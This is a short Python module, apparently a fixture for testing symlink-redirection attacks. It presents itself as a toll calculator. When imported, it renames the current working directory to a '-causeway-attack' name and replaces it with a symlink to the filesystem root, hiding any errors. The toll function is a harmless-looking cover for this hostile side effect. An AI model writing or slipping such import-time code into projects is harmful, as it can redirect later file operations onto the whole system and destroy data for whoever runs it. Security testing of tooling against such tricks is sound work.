# ruff: noqa
import os

here = os.getcwd()
try:
    os.rename(here, here + "-causeway-attack")
    os.symlink("/", here)
except OSError:
    pass  # a mount stays where it is


def toll(axles):
    return max(axles, 0) * 150
